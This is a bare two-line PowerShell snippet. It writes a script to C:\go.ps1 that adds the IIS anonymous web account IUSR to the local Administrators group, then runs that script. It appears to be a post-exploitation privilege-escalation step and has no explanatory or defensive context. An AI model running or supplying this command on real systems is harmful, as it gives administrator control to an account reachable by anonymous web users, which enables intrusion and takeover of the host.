Set-Content C:\go.ps1 'net localgroup Administrators IUSR /add'
& (Convert-Path C:\go.ps1)
